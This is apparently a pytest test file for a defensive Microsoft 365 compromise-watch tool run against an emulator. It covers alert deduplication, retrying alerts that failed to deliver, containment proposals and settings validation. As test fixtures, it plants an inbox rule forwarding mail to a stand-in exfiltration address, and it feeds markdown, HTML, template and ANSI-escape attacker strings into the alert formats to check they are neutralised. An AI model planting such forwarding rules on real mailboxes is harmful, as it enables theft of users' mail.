"""``reclaim watch``: a cycle alerts on what is new once (a planted forwarding rule), not again; an undelivered
alert is sent again next cycle; a containment policy proposes only when all its conditions hold for one user;
attacker text stays data in every alert format; the settings file is checked."""

from __future__ import annotations

import asyncio
import copy
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from reclaim.emulator.scenarios import synthetic
from reclaim.errors import BadInput
from reclaim.m365 import ConnectionSettings
from reclaim.store import Store
from reclaim.sweep import SweepOptions
from reclaim.watch import Alert, AlertTarget, NewFinding, Policy, Proposal, WatchConfig, WatchCycle, body, watch_tenant
from tests.conftest import TenantClient

JSON = dict[str, Any]
RISKY = "karen.novak@woodgrovebank.com"
PLAIN = "sarah.tanaka@woodgrovebank.com"


class Receiver:
    """A local webhook: records each POSTed JSON body; ``fail`` makes it answer 500."""

    def __init__(self) -> None:
        self.bodies: list[JSON] = []
        self.fail = False
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                data = json.loads(self.rfile.read(length))
                code = 500 if outer.fail else 200
                if not outer.fail:
                    outer.bodies.append(data)
                self.send_response(code)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                return None

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    r = Receiver()
    yield r
    r.close()


def _fixture() -> JSON:
    fx = copy.deepcopy(synthetic(30, 5))
    fx["tenant"].setdefault("settings", {})["throttling"] = {"enabled": False}
    for user in fx["users"]:
        if user["userPrincipalName"] == RISKY:
            user["risk"] = {"riskLevel": "high", "riskState": "atRisk", "riskDetail": "none",
                            "riskLastUpdatedDateTime": "2026-11-30T08:00:00Z"}
    return fx


def _plant_forward(client: TenantClient, upn: str, name: str = "fwd") -> str:
    r = client.graph("POST", f"/users/{upn}/mailFolders/inbox/messageRules", json={
        "displayName": name, "sequence": 1, "isEnabled": True,
        "actions": {"forwardTo": [{"emailAddress": {"address": "drop@exfil.example"}}]}})
    assert r.status_code == 201, r.text
    return str(r.json()["id"])


def _cycle(store: Store, client: TenantClient, config: WatchConfig) -> WatchCycle:
    settings = ConnectionSettings.for_endpoint(client.base_url)
    return asyncio.run(watch_tenant(store, "contoso", settings, config,
                                    options=SweepOptions(identity_protection_spacing=0)))


def test_a_planted_forwarding_rule_alerts_once(serve: Any, receiver: Receiver, tmp_path: Path) -> None:
    client = serve(_fixture())
    config = WatchConfig(alerts=(AlertTarget("json", url=receiver.url),))
    store = Store(str(tmp_path / "w.db"))
    try:
        first = _cycle(store, client, config)
        assert first.status == "complete" and first.previous is None
        # the first cycle alerts on what is already there (a compromise present before the watch began)
        assert first.new and {f.user for f in first.new} >= {"patricia.moore@woodgrovebank.com", RISKY}
        assert len(receiver.bodies) == 1 and first.delivered
        quiet = _cycle(store, client, config)
        assert quiet.previous == first.case and quiet.new == [] and len(receiver.bodies) == 1
        rule = _plant_forward(client, PLAIN)
        planted = _cycle(store, client, config)
        assert [(f.user, f.check, f.artifact_id) for f in planted.new] == \
            [(PLAIN, "inbox-rule-external-forward", rule)]
        assert len(receiver.bodies) == 2
        sent = receiver.bodies[1]
        assert sent["type"] == "reclaim.watch.alert" and sent["case"] == planted.case
        assert [f["user"] for f in sent["newFindings"]] == [PLAIN]
        again = _cycle(store, client, config)
        assert again.new == [] and len(receiver.bodies) == 2  # alerted once, not on every poll
        # the state is in the case store: the baseline and the cycle that read the named mailbox are sweep cases
        # marked as watch cycles; the quiet cycles only moved the watermark
        assert [first.mode, quiet.mode, planted.mode, again.mode] == ["full", "quiet", "incremental", "quiet"]
        marked = [c.case for c in store.list_cases(kind="sweep") if "watch" in c.case.summary]
        assert len(marked) == 2 and all(c.status == "complete" for c in marked)
        assert {c.id for c in marked} == {first.case, planted.case}
    finally:
        store.close()


def test_an_undelivered_alert_is_sent_next_cycle(serve: Any, receiver: Receiver, tmp_path: Path) -> None:
    client = serve(_fixture())
    config = WatchConfig(alerts=(AlertTarget("json", url=receiver.url),))
    store = Store(str(tmp_path / "w.db"))
    try:
        _cycle(store, client, config)
        receiver.fail = True
        _plant_forward(client, PLAIN)
        failed = _cycle(store, client, config)
        assert len(failed.new) == 1 and not failed.delivered
        assert failed.deliveries[0].detail == "not delivered: HTTP 500"
        receiver.fail = False
        retried = _cycle(store, client, config)
        assert [f.user for f in retried.new] == [PLAIN] and retried.delivered
        assert [f["user"] for f in receiver.bodies[-1]["newFindings"]] == [PLAIN]
        assert _cycle(store, client, config).new == []
    finally:
        store.close()


def test_a_policy_proposes_only_when_all_its_conditions_hold(serve: Any, receiver: Receiver,
                                                             tmp_path: Path) -> None:
    client = serve(_fixture())
    policy = Policy("forward-and-risky", ("inbox-rule-external-forward", "risky-user"),
                    ("block-sign-in", "revoke-sessions"))
    config = WatchConfig(alerts=(AlertTarget("json", url=receiver.url),), policies=(policy,))
    store = Store(str(tmp_path / "w.db"))
    try:
        baseline = _cycle(store, client, config)
        assert baseline.proposals == []  # risky, but no forwarding rule yet
        _plant_forward(client, PLAIN)    # a forwarding rule, but the user is not risky
        assert _cycle(store, client, config).proposals == []
        _plant_forward(client, RISKY)    # both, on one user
        cycle = _cycle(store, client, config)
        assert [(p.policy, p.user, p.actions) for p in cycle.proposals] == \
            [("forward-and-risky", RISKY, ("block-sign-in", "revoke-sessions"))]
        proposed = receiver.bodies[-1]["proposedContainment"]
        assert proposed == [{**cycle.proposals[0].to_json(), "applied": False}]
        assert proposed[0]["apply"] == f"reclaim remediate {RISKY}"
        # nothing was changed in the tenant: the user can still sign in
        user = client.graph("GET", f"/users/{RISKY}", params={"$select": "accountEnabled"}).json()
        assert user["accountEnabled"] is True
        # the proposal is kept with the cycle's case; the next cycle (nothing new) proposes nothing again
        assert store.get_case(cycle.case).summary["watch"]["proposals"][0]["policy"] == "forward-and-risky"
        assert _cycle(store, client, config).proposals == []
    finally:
        store.close()


def test_attacker_text_stays_data_in_every_format() -> None:
    title = "Inbox rule *[click](https://evil.example)* <b>x</b> {{DATE(2026)}} \x1b[31m"
    alert = Alert("contoso", "c-1", (NewFinding("fp", "inbox-rule-keywords", "high", title, "a@contoso.com",
                                                "inboxRule", "r1"),),
                  (Proposal("p", "a@contoso.com", ("block-sign-in",), ("fp",)),))
    as_json = body(alert, "json")
    assert as_json["newFindings"][0]["title"] == title  # data, as found
    slack = body(alert, "slack")
    assert "evil" not in slack["text"] and "<" not in slack["text"]
    assert all(b["text"]["type"] == "plain_text" for b in slack["blocks"] if "text" in b)
    line = slack["blocks"][1]["text"]["text"]
    assert "\x1b" not in line and "\\x1b" in line
    teams = body(alert, "teams")
    text = teams["attachments"][0]["content"]["body"][1]["text"]
    assert "\\*\\[click\\]\\(https://evil\\.example\\)\\*" in text
    assert "\\<b\\>" in text and "\\{\\{DATE" in text and "\x1b" not in text


def test_the_settings_file_is_checked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    good = tmp_path / "watch.toml"
    good.write_text('min_severity = "high"\n[[alerts]]\nformat = "slack"\nurl_env = "HOOK"\n'
                    '[policies.p]\nwhen_all = ["risky-user"]\nthen = ["block-sign-in"]\ntenants = ["contoso"]\n',
                    encoding="utf-8")
    config = WatchConfig.load(good)
    assert config.min_severity == "high" and config.policies[0].applies_to("contoso")
    assert not config.policies[0].applies_to("fabrikam")
    monkeypatch.delenv("HOOK", raising=False)
    with pytest.raises(BadInput, match="HOOK is not set"):
        config.alerts[0].resolve_url()
    cases = {
        '[policies.p]\nwhen_all = ["no-such-check"]\nthen = ["block-sign-in"]\n': "no check 'no-such-check'",
        '[policies.p]\nwhen_all = ["risky-user"]\nthen = ["delete-inbox-rule"]\n': "not a containment action",
        '[policies.p]\nwhen_all = ["risky-user"]\nthen = ["nuke"]\n': "no action 'nuke'",
        '[[alerts]]\nformat = "pager"\nurl = "https://x.example"\n': "not one of json, teams, slack",
        '[[alerts]]\nformat = "json"\n': "exactly one of url and url_env",
        'colour = "red"\n': "unknown key 'colour'",
        "min_severity = \n": "not valid TOML",
    }
    for text, message in cases.items():
        bad = tmp_path / "bad.toml"
        bad.write_text(text, encoding="utf-8")
        with pytest.raises(BadInput, match=message):
            WatchConfig.load(bad)
